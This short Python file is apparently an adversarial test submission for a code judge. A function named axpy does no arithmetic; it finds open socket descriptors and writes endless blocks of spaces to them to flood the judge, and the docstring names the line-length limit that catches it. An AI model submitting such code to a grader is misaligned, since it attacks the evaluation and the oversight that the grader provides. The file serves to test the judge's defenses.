"""Writes a line without end on the judge's socket.

Caught by: the longest line that the judge accepts.
"""

import os
import stat


def axpy(x, y, *, factor):
    for descriptor in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
        except OSError:
            continue
        while True:
            os.write(descriptor, b" " * (1 << 20))
